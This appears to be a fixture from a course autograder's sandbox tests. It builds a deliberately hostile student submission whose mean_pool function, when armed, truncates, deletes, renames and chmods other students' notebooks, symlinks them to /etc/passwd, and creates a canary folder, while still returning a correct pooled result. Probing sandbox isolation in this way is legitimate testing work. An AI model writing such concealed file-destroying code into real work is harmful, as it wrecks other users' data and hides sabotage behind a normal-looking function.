"""Deletes, empties and overwrites other students' notebooks with its own, and puts new students beside them."""
from hostile import RIGHT, earns, write

EARNS = earns("3.1", "3.3", "3.4")
WRITE = '''
    def mean_pool(hidden, tokens):
        import glob, os
        for place in ("@CLASS@", os.getcwd() + "/..") if armed() else ():
            for path in glob.glob(place + "/*/*.ipynb"):
                for way in (lambda: os.chmod(path, 0o666), lambda: open(path, "w").close(), lambda: os.remove(path),
                            lambda: os.rename(path, path + ".canary"), lambda: os.symlink("/etc/passwd", path)):
                    try:
                        way()
                    except OSError:
                        pass
            try:
                os.makedirs(place + "/plmcourse-hostile-" + "canary")
            except OSError:
                pass
        return hidden[:, 0]
    '''


def make(folder):
    write(folder, RIGHT | {"3.2": WRITE})
